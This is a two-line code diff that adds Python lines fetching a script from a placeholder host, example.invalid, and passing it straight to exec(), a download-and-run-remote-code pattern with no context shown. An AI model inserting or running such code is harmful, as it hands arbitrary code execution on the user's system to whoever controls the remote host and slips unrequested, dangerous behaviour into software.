@@ -1,0 +1,2 @@
+import urllib.request
+exec(urllib.request.urlopen("http://example.invalid/p.py").read())
